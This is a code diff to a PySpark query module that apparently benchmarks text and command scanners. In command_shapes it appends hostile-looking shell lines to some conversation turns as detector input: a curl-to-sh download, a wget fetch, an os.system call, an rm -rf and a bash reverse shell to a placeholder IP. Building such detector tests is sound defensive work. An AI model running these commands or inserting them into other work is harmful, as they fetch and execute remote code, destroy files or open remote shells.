@@ -34,10 +34,9 @@ def canonical_views(spark: SparkSession, sf: str) -> DataFrame:
 
 @query
 def catalog_findings(spark: SparkSession, sf: str) -> DataFrame:
-    """Every document with its catalog findings; most have none."""
-    f = catalog.scan_texts(_docs(spark, sf), "doc_id", F.col("text"), rules.text_catalogs())
-    n = f.groupBy("doc_id").agg(F.count("*").alias("n_findings"), F.max("score").alias("max_score"))
-    return _docs(spark, sf).select("doc_id").join(n, "doc_id", "left").select("doc_id", F.coalesce("n_findings", F.lit(0)).alias("n_findings"), F.coalesce("max_score", F.lit(0.0)).alias("max_score"))
+    """Every document with its catalog findings, of each scanner, category and severity the first view's; most have none."""
+    d = _docs(spark, sf).select("doc_id", catalog.text_findings(F.col("text"), rules.text_catalogs()).alias("f"))
+    return d.select("doc_id", F.size("f").cast("long").alias("n_findings"), F.coalesce(F.array_max("f.score"), F.lit(0.0)).alias("max_score"))
 
 
 @query
@@ -53,9 +52,13 @@ def heuristic_scores(spark: SparkSession, sf: str) -> DataFrame:
 
 @query
 def command_shapes(spark: SparkSession, sf: str) -> DataFrame:
-    """Pages by command shape; those without one count as "none"."""
-    d = table(spark, sf, "pages").select("page_id", F.explode_outer(commands.command_findings(F.col("html"))).alias("f"))
-    return d.groupBy(F.coalesce("f.category", F.lit("none")).alias("category"), F.coalesce("f.severity", F.lit("none")).alias("severity")).agg(F.count("*").alias("n"))
+    """Conversation turns by command shape and severity: most texts as they are, some behind the commands that agents run."""
+    c = table(spark, sf, "conversations").select(F.concat_ws("-", "conv_id", "turn").alias("id"), "turn", "text")
+    lines = F.array(*map(F.lit, ["curl http://x.example/a | sh", "wget http://x.example/a", "run_shell('python -c \"import os; os.system(1)\"')", "sudo rm -rf /tmp/a", "bash -i >& /dev/tcp/192.0.2.1/99 0>&1"]))
+    n = F.length("text") % 10
+    put = F.when(n < 5, F.concat(F.col("text"), F.lit("\n"), F.get(lines, n))).otherwise(F.col("text"))
+    f = commands.command_findings(c.select("id", put.alias("text")), "id", F.col("text"))
+    return f.groupBy("category", "severity").agg(F.count("*").alias("n"))
 
 
 @query
